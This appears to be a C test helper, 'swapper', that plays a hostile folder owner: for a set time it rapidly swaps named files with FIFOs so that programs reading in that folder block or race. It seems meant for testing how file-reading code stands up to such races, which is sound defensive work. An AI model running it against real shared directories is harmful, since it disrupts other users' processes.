/*
 * swapper FOLDER SECONDS NAME...: what a hostile owner of a folder does to stop whoever reads in
 * it: swaps each NAME for a FIFO and back, as fast as it can.
 */
#define _GNU_SOURCE
#include <fcntl.h>
#include <limits.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

static int is_fifo(const char *path)
{
	struct stat status;
	return lstat(path, &status) == 0 && S_ISFIFO(status.st_mode);
}

static void swap(const char *name)
{
	char aside[PATH_MAX];
	(void)snprintf(aside, sizeof aside, ".aside-%s", name);
	if (!is_fifo(name) && !is_fifo(aside)) {
		/* Ours was replaced. */
		(void)unlink(aside);
		(void)mkfifo(aside, 0666);
	}
	(void)renameat2(AT_FDCWD, aside, AT_FDCWD, name, RENAME_EXCHANGE);
}

int main(int argc, char **argv)
{
	if (argc < 4 || chdir(argv[1]) != 0) {
		return 1;
	}
	time_t end = time(NULL) + atoi(argv[2]);
	while (time(NULL) < end) {
		for (int i = 3; i < argc; i++) {
			swap(argv[i]);
		}
	}
	return 0;
}
